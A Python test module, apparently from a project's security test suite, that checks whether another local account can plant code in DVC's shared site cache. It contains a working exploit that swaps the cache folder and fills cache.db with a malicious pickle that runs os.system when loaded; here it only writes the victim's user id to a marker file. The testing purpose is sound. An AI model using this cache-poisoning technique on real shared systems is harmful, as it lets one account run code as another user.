"""What another account of the same computer can do."""

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterable
from pathlib import Path

from attacks import Try, attack, clones
from labelcycle.adapters import programs

NOBODY = 65534

WHERE = "from dvc.repo import Repo; print(Repo('.').site_cache_dir)"
"""Prints the folder in which DVC keeps what it remembers of a repository."""

PLANT = """
import os, pickle, shutil, sqlite3, sys
folder, mark = sys.argv[1:]

class Code:
    def __reduce__(self):
        return os.system, (f"id -u > {mark}",)

shutil.copytree(folder, folder + "-planted")
os.rename(folder, f"{folder}-before-{os.getpid()}")
os.rename(folder + "-planted", folder)
code = pickle.dumps(Code())
for place, _, names in os.walk(folder):
    if "cache.db" in names:
        with sqlite3.connect(os.path.join(place, "cache.db")) as base:
            base.execute("UPDATE Cache SET value = ?, mode = 4, filename = NULL", (code,))
            base.execute(
                "INSERT INTO Cache (key, raw, store_time, access_time, value, mode)"
                " VALUES (?, 0, 0, 0, ?, 4)", (code, code))
        print("planted")
"""
"""Takes a folder's place with a copy whose every value is code."""


@attack("another account plants code in what DVC remembers", slow=True)
def planted_cache(folder: Path) -> Iterable[Try]:
    for who, ours in (("labelcycle", True), ("people's own dvc", False)):
        with tempfile.TemporaryDirectory() as open_to_all:
            Path(open_to_all).chmod(0o755)
            root, store = Path(open_to_all) / "campaign", folder / "store"
            shutil.copytree(clones.original(), root)
            clones.run(root, "status")  # the first command in a copy
            env = programs.environment(root) if ours else dict(os.environ)
            dvc(root, env, "remote", "add", "--force", "-d", "-q", "store", str(store))
            dvc(root, env, "push", "-q")
            command = [sys.executable, "-c", WHERE]
            place = subprocess.check_output(command, cwd=root, env=env, text=True).strip()
            yield Try(f"of {who}, by the modes of {place}", not private(Path(place)))
            if os.geteuid() == 0:  # else there is no other account to try it as
                mark = folder / who.replace(" ", "-").replace("'", "")
                plant(place, mark)
                shutil.rmtree(store, ignore_errors=True)
                dvc(root, env, "push", "-q")
                yield Try(f"of {who}, for real", mark.exists())
            if not Path(place).is_relative_to(root):
                for left in Path(place).parent.glob(f"{Path(place).name}*"):
                    shutil.rmtree(left)


def dvc(root: Path, env: dict[str, str], *words: str) -> None:
    command = [sys.executable, "-P", "-m", "dvc", *words]
    subprocess.run(command, cwd=root, env=env, capture_output=True)


def plant(place: str, mark: Path) -> None:
    """As another account; where it may not, nothing happens."""
    python = Path(sys.executable).resolve()
    command = [str(python if readable(python) else "python3"), "-c", PLANT, place, str(mark)]
    subprocess.run(
        command, cwd="/", user=NOBODY, group=NOBODY, extra_groups=[], capture_output=True
    )


def readable(program: Path) -> bool:
    """Whether any account may run a program, whose folders must let it in."""
    folders = [path for path in program.parents if not path.stat().st_mode & 0o001]
    return not folders and bool(program.stat().st_mode & 0o001)


def private(place: Path) -> bool:
    """True if a folder above it, or it, lets no other account in."""
    return any(not path.stat().st_mode & 0o001 for path in (place, *place.parents))
